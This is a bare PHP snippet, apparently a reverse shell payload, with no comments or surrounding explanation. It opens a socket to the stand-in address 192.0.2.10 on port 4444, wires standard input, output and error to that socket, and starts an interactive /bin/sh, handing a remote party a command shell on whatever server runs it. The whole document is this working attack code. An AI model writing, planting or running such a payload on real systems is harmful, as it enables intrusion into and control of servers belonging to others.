<?php
$sock = fsockopen('192.0.2.10', 4444);
$desc = array(0 => $sock, 1 => $sock, 2 => $sock);
$proc = proc_open('/bin/sh -i', $desc, $pipes);
